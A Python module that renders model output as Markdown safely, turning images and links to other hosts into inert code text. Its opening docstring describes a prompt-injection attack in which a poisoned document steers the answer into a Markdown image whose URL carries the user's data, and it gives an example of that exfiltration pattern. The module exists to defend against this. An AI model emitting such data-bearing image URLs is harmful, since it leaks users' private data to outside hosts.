"""Model output and user-supplied labels shown as Markdown, without letting them reach the
network. A Markdown image makes the viewer's browser fetch its URL the moment it is drawn, so an
answer steered by a poisoned document (`![](https://host/?q=<the user's data>)`) would leak
whatever it can write into that URL. `safe_markdown` keeps ordinary Markdown and [n] citations
and turns every image, and every link to another host, into plain text with its URL in code.

It works on the whole text, code blocks included: deciding what is code the way the browser's
Markdown parser does is where such filters go wrong, and a URL shown in code inside a code block
is harmless.

Document text is shown differently: `escape_markdown` makes every character literal."""

from __future__ import annotations

import re
from collections.abc import Sequence

_URL = r"[^\s)]*"
_TITLE = r'(?:\s+(?:"[^"\n]*"|\'[^\'\n]*\'))?'
_SYNTAX = re.compile(
    rf"(?P<image>!\[(?P<alt>[^\]\n]*)\]\(\s*(?P<src><[^>\n]*>|{_URL}){_TITLE}\s*\))"
    rf"|(?P<link>\[(?P<label>[^\]\n]*)\]\(\s*(?P<href><[^>\n]*>|{_URL}){_TITLE}\s*\))"
    r"|<(?P<auto>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>"
    r"|(?P<bare>(?:https?|ftp)://[^\s<>`]+|www\.[^\s<>`]+)")
# What could still start an image or an inline link once the well-formed ones are replaced
# (a link nested in another's text leaves the outer one's brackets behind), and reference
# definitions, which would turn `[text][ref]` or `![alt][ref]` into a link or image.
_LEFTOVER = re.compile(r"!\[|\]\(|^( {0,3})\[(?=[^\]\n]*\]:)", re.MULTILINE)
_HOLE = re.compile("\ue000(\\d+)\ue001")
_REMOTE = re.compile(r"^(?:[A-Za-z][A-Za-z0-9+.-]*:|//|\\\\)")


def _code(url: str) -> str:
    # The zero-width space keeps the URL from being made a link again should the code span
    # not hold (a backtick already in the text can pair with ours).
    url = url.strip("<>").replace("`", "%60").replace("://", ":\u200b//")
    return "`" + re.sub(r"^www\.", "www\u200b.", url) + "`"


def safe_markdown(text: str) -> str:
    """`text` with images and links to other hosts as plain text; all else as it was."""
    text = str(text).replace("\ue000", "").replace("\ue001", "")
    holes: list[str] = []

    def hole(value: str) -> str:
        holes.append(value)
        return f"\ue000{len(holes) - 1}\ue001"

    def replace(match: re.Match) -> str:
        if match["image"]:
            alt = safe_markdown(match["alt"]).strip()
            return hole((f"{alt} " if alt else "") + f"(image: {_code(match['src'])})")
        if match["link"]:
            href = match["href"].strip("<>")
            if not _REMOTE.match(href):  # a link within the page goes nowhere else
                return hole(f"[{safe_markdown(match['label'])}]({href})")
            return hole(f"{safe_markdown(match['label'])} ({_code(href)})")
        return hole(_code(match["auto"] or match["bare"]))

    text = _SYNTAX.sub(replace, text)
    text = _LEFTOVER.sub(lambda m: {"![": "!\\[", "](": "\\]("}.get(m[0], f"{m[1]}\\["), text)
    return _HOLE.sub(lambda m: holes[int(m[1])], text)


def escape_markdown(text: str) -> str:
    """Document text shown as literal characters: no markdown, directives or HTML, and no
    links (a zero-width space keeps URLs and email addresses in documents from being turned
    into live links: the page's GFM finds an address in the text its escapes leave)."""
    text = text.replace("://", ":\u200b//").replace("www.", "www\u200b.").replace("@", "@\u200b")
    return "".join("\\" + ch if ch in "\\`*_{}[]()#+-.!|<>~$:=@" else ch
                   for ch in text).replace("\n", "  \n")


def clip(text: str, chars: int) -> str:
    """`text` within `chars` characters, cut at a word where it can be, with "…" where cut."""
    if len(text) <= chars:
        return text
    cut = text[:chars - 1]
    return (cut.rsplit(" ", 1)[0] if " " in cut[chars // 2:] else cut).rstrip(" ,;:") + "…"


def distinct(labels: Sequence[str]) -> list[str]:
    """The labels with a repeat numbered ("Title", "Title (2)"): a selectbox finds its choice
    by label, and of two conversations with one title "New" opened the older."""
    seen: dict[str, int] = {}
    out = []
    for label in labels:
        seen[label] = seen.get(label, 0) + 1
        out.append(label if seen[label] == 1 else f"{label} ({seen[label]})")
    return out


def listed(items: Sequence[str], last_joiner: str = "and") -> str:
    """"7", "7 and 8", "7, 8 and 9" (or "… or 9"); "" for none."""
    *rest, last = items or [""]
    return f"{', '.join(rest)} {last_joiner} {last}" if rest else last


def heading(text: str, title: str, section: str) -> str:
    """"Title · section" to show above a chunk, leaving out a title the chunk opens with (a
    title block showed its title twice) and a section that only repeats the title."""
    parts = [title] if title and not text.lstrip().startswith(title) else []
    if section and section != title:
        parts.append(section)
    return " · ".join(parts)
